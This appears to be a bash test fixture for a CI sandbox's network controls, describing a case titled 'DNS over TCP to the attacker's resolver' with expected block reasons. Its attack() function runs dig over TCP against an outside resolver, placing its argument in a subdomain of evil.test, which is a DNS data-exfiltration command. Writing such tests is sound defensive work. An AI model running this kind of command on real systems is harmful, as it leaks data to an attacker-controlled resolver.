# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='DNS over TCP to the attacker'\''s resolver' origin='RESEARCH §2.27; CVE-2026-32946; §6, cijail'
reason='foreign_resolver|not_resolved' forms='output forward run'
attack() { client dig +tcp +tries=1 +timeout=10 @198.18.3.66 "$1.evil.test"; }
